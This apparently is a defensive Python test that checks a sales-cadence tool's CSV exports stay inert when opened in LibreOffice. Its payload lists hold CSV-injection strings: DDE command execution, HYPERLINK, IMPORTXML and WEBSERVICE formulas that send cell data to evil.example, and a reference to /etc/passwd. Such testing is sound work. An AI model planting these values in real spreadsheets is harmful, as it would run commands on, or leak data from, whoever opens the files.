#!/usr/bin/env python3
"""Opens schedules of cadence in LibreOffice: no cell of a prospect may become a formula or a link there.

Usage: spreadsheet.py CADENCE, the program's path.
"""

import csv
import io
import pathlib
import subprocess
import sys
import tempfile
import unicodedata
import xml.etree.ElementTree as xml

# What people have written into forms to reach the spreadsheet of whoever exports them (OWASP, CSV injection), and
# what is near to that.
FORMULAS = [
    "=1+1",
    "=1+1;=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Error: click\")",
    "=HYPERLINK(\"https://evil.example\";\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=IMPORTDATA(\"https://evil.example\")",
    "=IMAGE(\"https://evil.example/x.png\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=FILTERXML(WEBSERVICE(\"https://evil.example\"),\"//x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "={1;2}",
    "=\"a\"&\"b\"",
    "=\u00a01+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " =1+1",
    "\u00a0=1+1",
]

# Ways out of a cell, for those who do not get anywhere at its beginning.
ESCAPES = [
    ",=1+1",
    ";=1+1",
    "x;=1+1;",
    "x\t=1+1\t",
    "x|=1+1",
    "\",=1+1",
    "\";=1+1",
    "\"\t=1+1",
    "\"\",=1+1,\"\"",
    "\"\r\n=1+1",
    "x\n=1+1",
    "x\r\n=1+1,=1+1",
    "x\r=1+1",
    "\\\",=1+1",
    "\"=1+1\"",
    "https://evil.example/?x=1",
    "sep=;",
]

# Numbers as people write them; they have to be there to be dialled.
PHONES = [
    "+1 614 555 0100",
    "(614) 555-0101",
    "614-555-0102",
    "+1-614-555-0103",
    "614.555.0104 ext. 7",
    "+44 20 7946 0958",
    "+16145550105",
    "+442079460958",
    "0044207946095",
    "442079460958",
]

# How a spreadsheet may open the file: as it comes; with commas; and with all the separators that its dialog ticks by
# itself; formulas evaluated (the last token) where that can be said.
IMPORTS = {
    "as it comes": ":44,34,UTF8",
    "by commas, formulas evaluated": ":44,34,UTF8,1,,0,false,true,false,false,false,0,true",
    "by commas, semicolons and tabs": ":44/59/9,34,UTF8,1,,0,false,true,false,false,false,0,true",
}

OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def write_prospects(path: pathlib.Path) -> None:
    """Every text as id, name, company, rep and address, each in a row with something harmless beside it."""
    texts = FORMULAS + ESCAPES
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(["Id", "Name", "Company", "Owner", "Phone", "Street", "City", "Linkedin", "Type"])
        for number, text in enumerate(texts):
            phone = PHONES[number % len(PHONES)]
            handle = "https://www.linkedin.com/in/" + text.strip().replace(" ", "")
            writer.writerow([f"{text}{number}", text, text, "dana", phone, text, text, handle, "warm_inbound"])
            writer.writerow([f"r{number}", "Bo", "Acme", text, phone, "", "", "", "cold"])


def run(cadence: pathlib.Path, folder: pathlib.Path, *arguments: str) -> str:
    """What cadence prints."""
    command = [cadence, *arguments, "--today", "2026-11-23", "--no-history"]
    ran = subprocess.run(command, cwd=folder, capture_output=True)
    assert ran.returncode == 0, ran.stderr.decode()
    return ran.stdout.decode()


def open_in_spreadsheet(folder: pathlib.Path, table: str, tokens: str) -> list[list[xml.Element]]:
    """The cells of the sheet that LibreOffice makes of a table, row by row."""
    (folder / "table.csv").write_text(table, encoding="utf-8", newline="")
    opened = folder / "table.fods"
    opened.unlink(missing_ok=True)
    command = ["soffice", "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}",
               f"--infilter=CSV{tokens}", "--convert-to", "fods", "--outdir", folder, folder / "table.csv"]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    rows = []
    for row in xml.parse(opened).iter(f"{TABLE}table-row"):
        cells = []
        for cell in row:
            cells.extend([cell] * min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 100))
        rows.append(cells)
    return rows


def text_of(cell: xml.Element) -> str:
    """The text of a cell as it is stored: paragraphs are its lines."""
    lines = []
    for paragraph in cell.findall(f"{TEXT}p"):
        line = paragraph.text or ""
        for part in paragraph:
            blanks = {f"{TEXT}s": " " * int(part.get(f"{TEXT}c", "1")), f"{TEXT}tab": "\t", f"{TEXT}line-break": "\n"}
            line += blanks.get(part.tag, "".join(part.itertext())) + (part.tail or "")
        lines.append(line)
    return "\n".join(lines)


def visible(text: str) -> str:
    """A text without what nobody sees, its blanks and line breaks alike."""
    seen = (letter for letter in text if unicodedata.category(letter) not in {"Cc", "Cf"} or letter in "\t\r\n")
    return " ".join("".join(seen).split())


def is_run(cell: xml.Element) -> bool:
    """Whether there is a formula or a link in a cell."""
    return cell.get(f"{TABLE}formula") is not None or any(True for _ in cell.iter(f"{TEXT}a"))


def check(folder: pathlib.Path, table: str, how: str) -> int:
    """The cells that were looked at: none is run, and each is the text that the file has."""
    expected = list(csv.reader(io.StringIO(table, newline="")))
    rows = open_in_spreadsheet(folder, table, IMPORTS[how])
    assert len(rows) >= len(expected), (how, len(rows), len(expected))
    looked_at = 0
    for meant, cells in zip(expected, rows):
        for column, text in enumerate(meant):
            cell = cells[column] if column < len(cells) else xml.Element("none")
            assert not is_run(cell), (how, meant[0], text, xml.tostring(cell))
            kind = cell.get(f"{OFFICE}value-type", "string")
            if kind == "string":
                assert visible(text_of(cell)) == visible(text), (how, meant, text, text_of(cell))
            else:
                # Numbers, dates and times are ours; phone numbers stay as they are written.
                assert expected[0][column] in {"date", "start", "touch", "of", "minutes"}, (how, text)
            looked_at += 1
        beyond = [cell for cell in cells[len(meant):] if text_of(cell)]
        assert not beyond, (how, meant, [text_of(cell) for cell in beyond])
    return looked_at


def main() -> None:
    cadence = pathlib.Path(sys.argv[1]).resolve()
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        write_prospects(folder / "prospects.csv")
        plan = run(cadence, folder, "plan", "prospects.csv", "--format", "csv", "--until", "2026-12-31")
        sheet = run(cadence, folder, "today", "prospects.csv", "--format", "csv")
        raw = run(cadence, folder, "plan", "prospects.csv", "--format", "csv", "--until", "2026-12-31", "--raw")
        names = {row["name"] for row in csv.DictReader(io.StringIO(raw, newline=""))}
        for text in FORMULAS + ESCAPES:
            assert any(visible(text) == visible(name) for name in names), f"nobody in the plan is called {text!r}"
        for phone in PHONES:
            assert phone in plan, phone
        for how in IMPORTS:
            cells = check(folder, plan, how) + check(folder, sheet, how)
            # What is checked has to be there to be found: the same file without the apostrophes.
            formulas = sum(is_run(cell) for row in open_in_spreadsheet(folder, raw, IMPORTS[how]) for cell in row)
            assert formulas > 0, "LibreOffice makes formulas of nothing: this check checks nothing"
            print(f"opened {how}: {cells} cells, no formula; with --raw {formulas}")


if __name__ == "__main__":
    main()
